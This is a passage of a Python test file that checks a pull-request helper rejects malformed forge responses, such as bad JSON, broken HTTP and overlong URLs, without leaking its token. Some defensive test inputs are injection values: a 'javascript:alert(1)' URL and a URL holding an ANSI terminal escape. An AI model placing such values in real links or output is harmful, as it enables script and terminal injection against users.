        (201, b'\xff{"html_url": "https://forge.invalid/1"}', "not JSON .* \\(not UTF-8 text"),
        (201, {"html_url": 5}, "it has no html_url: {"),
        (201, [{"html_url": "https://forge.invalid/1"}], "it has no html_url: \\[{"),
        (201, {"html_url": "javascript:alert(1)"}, "its html_url is not an http\\(s\\) URL"),
        (201, {"html_url": "https://forge.invalid/\n\x1b[2J"}, "holds characters a URL cannot"),
        (
            201,
            {"html_url": "https://forge.invalid/" + "a" * forge_mod.MAX_PR_URL_CHARS},
            f"its html_url is 2070 characters long \\(at most {forge_mod.MAX_PR_URL_CHARS}\\)",
        ),
        (422, {"message": "Validation Failed", "errors": 5}, "answered 422: Validation Failed$"),
        (422, {"message": {"why": [1]}, "errors": "abc"}, 'answered 422: {"why": \\[1\\]}$'),
        (
            422,
            {"message": "No", "errors": [{"code": "custom"}, 7, [1, 2], {"x": None}]},
            'answered 422: No \\(custom; 7; \\[1, 2\\]; {"x": null}\\)$',
        ),
        (422, b"", "answered 422: no message$"),
    ],
    ids=[
        "deep-201",
        "deep-422",
        "deep-valid-422",
        "huge-int-500",
        "duplicate-key",
        "not-utf8",
        "url-not-text",
        "list",
        "url-not-http",
        "url-control-characters",
        "url-too-long",
        "errors-a-number",
        "message-an-object-errors-text",
        "errors-mixed",
        "empty-422",
    ],
)
def test_a_forge_answer_of_any_shape_fails_the_pull_request_with_a_repo_error(
    forge: FakeForge, status: int, answer: Any, message: str
) -> None:
    """What the forge sends on success and on error, nested past any parser's limit, not
    UTF-8, with a key twice, of another shape, or with a URL that is no URL: a RepoError
    naming what was wrong, never another exception, never the token."""
    forge.status = status
    forge.answer = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
    with pytest.raises(RepoError, match=message) as info:
        open_pull_request(forge.url, "o/r", **PR)
    assert PR_TOKEN not in str(info.value)
    assert len(str(info.value)) < 600  # the forge's words are quoted, not dumped
    assert "\n" not in str(info.value) and "\x1b" not in str(info.value)


class RawForge:
    """A TCP server on 127.0.0.1 that reads one HTTP request per connection and answers
    with ``answer``, bytes as given (no HTTP of its own), then closes the connection."""

    def __init__(self, answer: bytes) -> None:
        self.answer = answer
        self.closing = threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            conn, _ = self.listener.accept()
            with conn:
                if self.closing.is_set():
                    return
                request = b""
                while b"\r\n\r\n" not in request:
                    request += conn.recv(65536)
                head, _, body = request.partition(b"\r\n\r\n")
                length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
                while len(body) < length:
                    body += conn.recv(65536)
                conn.sendall(self.answer)

    def close(self) -> None:
        self.closing.set()
        socket.create_connection(self.listener.getsockname()).close()  # wakes accept()
        self.thread.join(5)
        self.listener.close()


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        (
            b'HTTP/1.1 201 Created\r\nContent-Length: 100\r\n\r\n{"html_url": ',
            'is not a pull request: it is not JSON gatewayd accepts .*: {"html_url":$',
        ),
        (
            b'HTTP/1.1 422 Unprocessable\r\nContent-Length: 100\r\n\r\n{"message": ',
            'answered 422: {"message":$',
        ),
        (
            b"HTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
            "could not be read \\(IncompleteRead: .*\\); the pull request may or may not exist",
        ),
        (
            b"HTTP/1.1 422 Unprocessable\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
            "answered 422: no message$",
        ),
        (b"HTTP/1.1 two-oh-one\r\n\r\n", "could not be read \\(BadStatusLine: "),
        (b"HTTP/1.1 201 Created\r\nX: " + b"a" * 70_000 + b"\r\n\r\n", "\\(LineTooLong: "),
        (
            b"HTTP/1.1 201 Created\r\n" + b"X: y\r\n" * 101 + b"\r\n",
            "\\(HTTPException: got more than 100 headers\\)",
        ),
        (b"", "could not be read \\(RemoteDisconnected: Remote end closed connection"),
    ],
    ids=[
        "cut-short-201",
        "cut-short-422",
        "broken-chunks-201",
        "broken-chunks-422",
        "not-http",
        "header-too-long",
        "headers",
        "nothing",
    ],
)
def test_a_forge_answer_that_is_not_http_fails_the_pull_request_with_a_repo_error(
    answer: bytes, message: str
) -> None:
    """The forge's bytes below JSON: cut short, chunks that are not chunks, a status line
    or headers that are not HTTP, nothing at all. Each a RepoError saying so."""
    forge = RawForge(answer)
    try:
        with pytest.raises(RepoError, match=message) as info:
            open_pull_request(forge.url, "o/r", **PR)
    finally:
        forge.close()
    assert PR_TOKEN not in str(info.value)
